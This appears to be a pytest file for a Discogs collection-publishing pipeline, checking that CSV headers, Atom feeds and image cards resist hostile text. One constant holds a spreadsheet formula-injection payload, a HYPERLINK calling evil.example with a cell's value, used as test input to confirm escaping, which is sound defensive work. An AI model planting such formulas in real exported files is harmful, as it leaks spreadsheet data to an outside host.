"""Hostile text, from Discogs or users.yaml, cannot turn a published file against its reader: no CSV header runs
as a formula, every Atom feed stays well-formed XML, and a card is drawn at once whatever its genre's length."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import xml.etree.ElementTree as ET
from pathlib import Path

from PIL import Image, ImageDraw

from pipeline.fakes.discogs import FakeDiscogs, generate_world
from pipeline.runs.build import build, open_instance
from pipeline.site import card
from pipeline.site.feeds import site_feed, user_feed
from tests.conftest import register, settings_for

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Condition")'


def _built(tmp_path: Path, world, users_yaml: str) -> Path:
    register(tmp_path, users_yaml, {"al": "alice"})
    with FakeDiscogs(world, rate_limit=1000, window=1) as fake:
        outcomes, published = build(settings_for(tmp_path, fake), instance=open_instance(tmp_path / "dagster"),
                                    report=lambda _: None)
    assert published and all(o.ok for o in outcomes), [o.error for o in outcomes]
    return tmp_path / "output"


def test_a_custom_field_named_like_a_formula_is_no_formula_in_the_csv_header(tmp_path):
    world = generate_world("alice:30", catalog_size=100)
    world.user("alice").fields[0]["name"] = FORMULA  # Media Condition, renamed by its owner
    users = f"users:\n  - name: al\n    discogs_username: alice\n    visibility: public\n" \
            f"    publish:\n      fields: ['{FORMULA}']\n"
    folder = _built(tmp_path, world, users) / "u" / "al" / "collection"
    header = next(csv.reader(io.StringIO((folder / "export.csv").read_bytes().decode("utf-8-sig"), newline="")))
    assert "'" + FORMULA in header and FORMULA not in header
    assert not [cell for cell in header if re.match(r"[=+\-@\t\r]", cell)]
    assert FORMULA in json.loads((folder / "export.json").read_text(encoding="utf-8"))[0]  # the exact name kept


ATOM = "{http://www.w3.org/2005/Atom}"


def _titles(feed: bytes) -> list[str]:
    return [e.find(f"{ATOM}title").text for e in ET.fromstring(feed).findall(f"{ATOM}entry")]


def test_control_characters_in_discogs_text_are_replaced_and_every_feed_stays_well_formed(tmp_path):
    world = generate_world("alice:30", catalog_size=100)
    newest = max(world.user("alice").items, key=lambda item: item["date_added"])
    newest["basic_information"]["title"] = "Broken \x01 title"
    newest["basic_information"]["artists"][0]["name"] = "Nul\x00l \ufffe"
    # Folder names and a dropdown's options are Discogs text too; the option still matches the item's value.
    world.user("alice").folder_names[2001] = "Shelf\x07A"
    world.user("alice").fields[0]["options"][0] = "Mint\x1b (M)"
    newest["notes"] = [{"field_id": 1, "value": "Mint\x1b (M)"}]
    users = "users:\n  - name: al\n    discogs_username: alice\n    visibility: public\n" \
            "    publish:\n      folders: true\n      fields: [Media Condition]\n"
    output = _built(tmp_path, world, users)
    shown = "Nul\ufffdl \ufffd – Broken \ufffd title"
    for feed, prefix in ((output / "u" / "al" / "collection" / "feed.xml", ""), (output / "feed.xml", "al: ")):
        assert prefix + shown in _titles(feed.read_bytes()), feed  # parsed: the feed is well-formed
    data = json.loads((output / "u" / "al" / "collection" / "releases.json").read_text(encoding="utf-8"))
    rows = [dict(zip(data["columns"], r, strict=True)) for r in data["rows"]]
    broken = next(r for r in rows if r["title"] == "Broken \ufffd title")
    assert "Shelf\ufffdA" in {r["folder"] for r in rows}
    condition = next(c for c in data["columns"] if c.endswith("Media Condition"))
    assert data["order"][condition][0] == "Mint\ufffd (M)" == broken[condition]


def test_feeds_are_well_formed_whatever_the_text_they_are_given():
    """The feed writer holds to XML on its own, for a display name with NUL however it got there and for
    data staged before Discogs text was repaired."""
    row = {"instance_id": 7, "release_id": 42, "artist": "A\x0bB", "title": "T\x01\ud800\uffff", "year": 1999,
           "original_year": 0, "labels": ["L\x1f"], "formats": ["Vinyl\x0c"],
           "date_added": "2024-05-01T10:00:00-07:00"}
    mine = user_feed("Nu\x00ll", "al", [row])
    everyone = site_feed([("Nu\x00ll", "al", [row])])
    for feed in (mine, everyone):
        ET.fromstring(feed)  # well-formed
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", feed.decode("utf-8"))
    mine_root = ET.fromstring(mine)
    assert mine_root.find(f"{ATOM}title").text == "Nu\ufffdll's record collection: new additions"
    assert mine_root.find(f"{ATOM}author/{ATOM}name").text == "Nu\ufffdll"
    assert _titles(mine) == ["A\ufffdB – T\ufffd\ufffd\ufffd"]
    assert _titles(everyone) == ["Nu\ufffdll: A\ufffdB – T\ufffd\ufffd\ufffd"]
    summary = mine_root.find(f"{ATOM}entry/{ATOM}summary").text
    assert summary == "1999 pressing · original year unknown · Vinyl\ufffd · L\ufffd"


def test_a_card_with_a_20000_character_genre_is_drawn_at_once_and_its_text_stays_in_its_place():
    genre = ("Electronic Dance Music " * 1000)[:20_000]
    stats = {"totals": {"items": 12, "earliest_year": 1970, "latest_year": 2020},
             "counts": {"genres": [(genre, 12), ("Rock", 3)], "artists": [("Someone", 4)]}}
    started = time.monotonic()
    drawn = card.draw_card("Al", stats)
    assert time.monotonic() - started < 5  # generous: one character at a time took 36 s
    with Image.open(io.BytesIO(drawn)) as image:
        pixels = image.convert("RGB").load()
        # The genre's name ends before its bar (from x=300), the description before the sleeves (x=760).
        for columns, rows in ((range(291, 300), range(260, 292)), (range(731, 760), range(185, 215))):
            assert {pixels[x, y] for x in columns for y in rows} == {card.BACKGROUND}
    draw = ImageDraw.Draw(Image.new("RGB", (1, 1)))
    cut = card._fit(draw, genre, card._font(24), 230)
    assert cut.endswith("…") and genre.startswith(cut[:-1]) and draw.textlength(cut, font=card._font(24)) <= 230
    assert draw.textlength(genre[:len(cut)] + "…", font=card._font(24)) > 230  # nothing shorter than needed
